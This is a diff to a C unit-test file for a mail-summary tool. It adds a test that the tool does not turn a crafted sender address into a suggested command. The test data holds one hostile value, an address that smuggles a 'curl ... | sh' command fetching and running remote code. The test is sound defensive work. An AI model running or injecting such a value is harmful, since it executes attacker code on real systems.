@@ -361,9 +361,25 @@ a_new_sender_of_much_is_named(void **state)
 	this_week(sc, 10, 0, "x@blast.example");
 	assert_string_equal(notes_of(sc, gather(sc, "2026-W47")), "* blast.example wrote "
 	    "for the first time, and 10 messages at once (100 % of all).\n");
+	assert_string_equal(gather(sc, "2026-W47")->note[0].todo, "mroute log --domain "
+	    "blast.example --since 2026-11-16 --until 2026-11-22");
 	sc->cfg->summary.people = PEOPLE_NONE;
 	assert_string_equal(notes_of(sc, gather(sc, "2026-W47")), "* Somebody wrote for the "
 	    "first time, and 10 messages at once (100 % of all).\n");
+}
+
+static void
+no_stranger_writes_a_command(void **state)
+{
+	struct scene *sc = *state;
+	const struct summary *s;
+
+	usual_weeks(sc, 3, 10, 0);
+	this_week(sc, 10, 0, "x@a.example;curl${ifs}x.example|sh");
+	s = gather(sc, "2026-W47");
+	assert_int_equal(s->n_note, 1);
+	assert_non_null(strstr(s->note[0].text, "|sh wrote for the first time"));
+	assert_string_equal(s->note[0].todo, "");
 }
 
 static void
@@ -515,6 +531,7 @@ main(void)
 		T_SCENE(a_busy_week_says_where),
 		T_SCENE(a_quiet_week_asks_whether_mail_arrives),
 		T_SCENE(a_new_sender_of_much_is_named),
+		T_SCENE(no_stranger_writes_a_command),
 		T_SCENE(what_failed_comes_first_and_rules_broken_after),
 		T_SCENE(rules_that_were_mended_are_no_trouble),
 		T_SCENE(lines_are_idle_only_when_they_had_the_chance),
